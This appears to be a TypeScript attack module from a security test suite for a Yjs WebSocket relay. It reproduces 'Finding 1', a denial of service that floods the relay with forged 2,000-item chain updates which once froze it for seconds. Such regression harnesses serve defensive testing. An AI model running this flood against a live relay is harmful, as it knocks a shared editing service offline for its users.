// Finding 1: 17 KiB append updates, each a chain of 2,000 entries continuing the previous one
// (what froze the relay for seconds when its check walked chains), one after the other; the
// probe after each carries the attacker's state vector so the relay's answer stays small.
import * as Y from 'yjs'
import { chainUpdate, syncFrame } from '../../tests/support/update-forge.ts'
import { type Attack, attackRoom, openSocket, untilAborted } from './types.ts'

/** Chains of 2,000 items. */
export const chain: Attack = {
  name: 'chain-2000',
  async run({ wsUrl, signal }) {
    const room = attackRoom()
    const client = 10_000
    const token = room.token('append')
    let clock = 0
    await untilAborted(signal, async () => {
      const socket = await openSocket(wsUrl, room.roomId, token)
      while (!signal.aborted) {
        const after = clock === 0 ? null : { client, clock: clock - 1 }
        const frame = syncFrame(2, chainUpdate(client, 2000, clock, after))
        const answer = await socket.sendProcessed(
          frame,
          syncFrame(0, Y.encodeStateVector(new Map([[client, clock + 2000]]))),
        )
        if (answer !== 'answered') break
        clock += 2000
      }
      socket.ws.terminate()
    })
  },
}
